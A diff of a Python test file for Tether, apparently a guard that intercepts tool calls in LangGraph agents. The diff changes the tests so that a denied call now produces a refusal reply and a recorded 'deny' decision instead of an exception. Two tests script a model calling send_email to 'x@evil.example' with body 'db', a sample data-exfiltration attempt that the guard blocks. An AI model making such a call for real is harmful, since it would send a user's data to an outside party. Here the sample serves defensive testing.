@@ -1,15 +1,15 @@
-"""The callback handler on graphs whose tools Tether does not wrap."""
+"""The callback handler on graphs whose tools Tether does not wrap: in a run's callbacks, it makes
+Tether govern every tool and model call of the run."""
 
 from __future__ import annotations
 
 import asyncio
 
-import pytest
 from langchain_core.messages import HumanMessage
 from langchain_core.tools import tool
 from langgraph.prebuilt import ToolRuntime
 
-from tether.core import Guard, ToolDenied
+from tether.core import Guard
 from tether.langgraph import Tether
 
 from .conftest import ScriptedModel, calls
@@ -20,20 +20,22 @@ def config(handler: object, *more: object) -> dict:
     return {"callbacks": [handler, *more], "configurable": {"thread_id": "h-1"}}
 
 
-def test_handler_blocks_a_denied_call_before_the_body_runs(guard: Guard, tools, ran) -> None:
+def test_handler_refuses_a_denied_call_before_the_body_runs(guard: Guard, tools, ran) -> None:
     model = ScriptedModel(script=[calls(("send_email", {"to": "x@evil.example", "body": "db"}, "e1"))])
     handler = Tether(guard, agent="support-bot").callback_handler()
-    with pytest.raises(ToolDenied, match="Tether denied the call to 'send_email'"):
-        state_graph(model, tools, None).invoke({"messages": [HumanMessage("x")]}, config(handler))
+    state_graph(model, tools, None).invoke({"messages": [HumanMessage("x")]}, config(handler))
     assert ran.calls == []
+    assert model.tool_replies()["e1"].startswith("Tether denied the call to 'send_email'")
+    [decision] = [e for e in guard.store.session_events("h-1") if e.kind == "tool.decision"]
+    assert decision.verdict == "deny"
 
 
-def test_handler_blocks_in_async_runs(guard: Guard, tools, ran) -> None:
+def test_handler_refuses_in_async_runs(guard: Guard, tools, ran) -> None:
     model = ScriptedModel(script=[calls(("send_email", {"to": "x@evil.example", "body": "db"}, "e1"))])
     handler = Tether(guard, agent="support-bot").callback_handler()
-    with pytest.raises(ToolDenied):
-        asyncio.run(state_graph(model, tools, None).ainvoke({"messages": [HumanMessage("x")]}, config(handler)))
+    asyncio.run(state_graph(model, tools, None).ainvoke({"messages": [HumanMessage("x")]}, config(handler)))
     assert ran.calls == []
+    assert "Tether denied" in model.tool_replies()["e1"]
 
 
 def test_handler_records_the_chain_and_decides_once_when_attached_twice(guard: Guard, tools, ran) -> None:
